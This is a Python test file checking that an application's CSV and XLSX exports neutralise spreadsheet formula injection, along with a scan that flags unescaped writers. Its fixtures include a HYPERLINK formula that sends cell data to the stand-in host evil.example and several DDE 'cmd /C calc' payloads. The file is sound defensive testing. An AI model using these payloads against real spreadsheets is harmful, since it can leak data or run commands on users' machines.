"""The CSV exports (a draw, the audit log) open in a spreadsheet without running any formula.

Names come from imported files and may start with = + - @: such a cell is written with a
leading apostrophe, which spreadsheet programs show as text.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from decimal import Decimal
from pathlib import Path

from remote_check import csvsafe, tabular
from remote_check.accounts.models import Role
from remote_check.audit.service import Actor, record
from remote_check.campaigns import review, service
from remote_check.campaigns.sampling import Target, Thresholds
from remote_check.clock import FixedClock
from remote_check.database import transaction
from tests.conftest import Database
from tests.factories import add_enterprise, add_project, add_supplier
from tests.web_helpers import WebServer

ACTOR = Actor("user:1", "4419")
HOSTILE = {
    "enterprise": '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "supplier": "+1+cmd|' /C calc'!A0",
    "product": "@SUM(1+1)*cmd|' /C calc'!A0",
    "code": "-2+3+cmd|' /C calc'!A0",
}


def test_formula_starts_get_an_apostrophe_and_numbers_are_kept() -> None:
    assert csvsafe.cell("=1+1") == "'=1+1"
    assert csvsafe.cell("\t=1") == "'\t=1"
    assert csvsafe.cell("东莞 = Dongguan") == "东莞 = Dongguan"
    assert csvsafe.cell("100000.00") == "100000.00"
    assert csvsafe.row([1, Decimal("-5.00"), "-5", "", "a"]) == [1, Decimal("-5.00"), "'-5", "", "a"]


async def test_a_draw_export_neutralises_names_from_imported_files(db: Database, clock: FixedClock) -> None:
    async with transaction(db.factory) as session:
        supplier = await add_supplier(session, HOSTILE["supplier"], product_name=HOSTILE["product"])
        enterprise = await add_enterprise(session, name=HOSTILE["enterprise"])
        project = await add_project(session, supplier, enterprise=enterprise)
        project.code = HOSTILE["code"]
        campaign = await service.create_campaign(
            session,
            service.NewCampaign("4419", "2019", Decimal("1.00"), dt.date(2020, 6, 30)),
            actor=ACTOR,
            now=clock.now(),
            created_by=None,
        )
        draw = await service.create_draw(
            session,
            campaign,
            target=Target(count=1),
            seed="csv",
            thresholds=Thresholds(),
            actor=ACTOR,
            now=clock.now(),
            created_by=None,
        )
    async with transaction(db.factory) as session:
        text = await review.export_csv(session, draw.id, actor=ACTOR, now=clock.now())
    _header, line = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert line[1] == "'" + HOSTILE["code"]
    assert line[2] == "'" + HOSTILE["enterprise"]
    assert line[4] == "'" + HOSTILE["supplier"]
    assert line[5] == "'" + HOSTILE["product"]
    assert line[6] == "100000.00"
    assert not any(cell.startswith(csvsafe.FORMULA_STARTS) for cell in line)


async def test_the_audit_export_neutralises_its_text_cells(server: WebServer) -> None:
    await server.add_user("admin", Role.PROVINCE_ADMIN)
    async with transaction(server.db.factory) as session:
        await record(session, Actor("=cmd|' /C calc'!A0", None), "-x", "@y", at=server.clock.now())
    admin = await server.signed_in("admin")
    export = await admin.get("/api/audit/export.csv?action=-x")
    assert export.status == 200
    rows = list(csv.DictReader(io.StringIO((await export.read()).decode("utf-8-sig"))))
    assert [(r["actor"], r["action"], r["target"]) for r in rows] == [("'=cmd|' /C calc'!A0", "'-x", "'@y")]


WRITER_CALLS = re.compile(
    r"\bcsv\s*\.\s*(writer|DictWriter)\b"
    r"|from\s+csv\s+import\s+[^\n]*\b(writer|DictWriter)\b"
    r"|\bWorkbook\s*\("
    r"|from\s+openpyxl\s+import\s+[^\n]*\bWorkbook\b"
    r"|\bopenpyxl\s*\.\s*Workbook\b"
)
CODE_FOLDERS = ("remote_check", "recordings", "web", "scheduler")


def test_every_csv_and_xlsx_is_written_by_the_one_escaping_writer() -> None:
    root = Path(__file__).resolve().parent.parent
    offenders = [
        f"{path.relative_to(root)}:{text[: match.start()].count(chr(10)) + 1}: {match.group(0)}"
        for folder in CODE_FOLDERS
        for path in sorted((root / folder).rglob("*.py"))
        if path != root / "remote_check" / "tabular.py"
        for text in [path.read_text("utf-8")]
        for match in WRITER_CALLS.finditer(text)
    ]
    assert offenders == [], "write CSV and XLSX with remote_check.tabular only"


def test_the_scan_sees_a_writer_that_skips_the_escaping() -> None:
    for sneaky in (
        "w = csv.writer(buffer)",
        "w = csv.DictWriter(buffer, fields)",
        "from csv import writer",
        "from openpyxl import Workbook",
        "book = openpyxl.Workbook()",
    ):
        assert WRITER_CALLS.search(sneaky), sneaky
    assert not WRITER_CALLS.search("rows = csv.reader(stream)")


def test_xlsx_text_cells_that_look_like_formulas_stay_text() -> None:
    from openpyxl import load_workbook

    data = tabular.xlsx_bytes(
        [tabular.Sheet("s", [["name"], [HOSTILE["enterprise"]], [HOSTILE["code"]], [12]])]
    )
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    cells = [sheet.cell(line, 1) for line in (2, 3, 4)]
    assert [c.value for c in cells] == [HOSTILE["enterprise"], HOSTILE["code"], 12]
    assert [c.data_type for c in cells] == ["s", "s", "n"]
    assert [c.quotePrefix for c in cells] == [True, True, False]
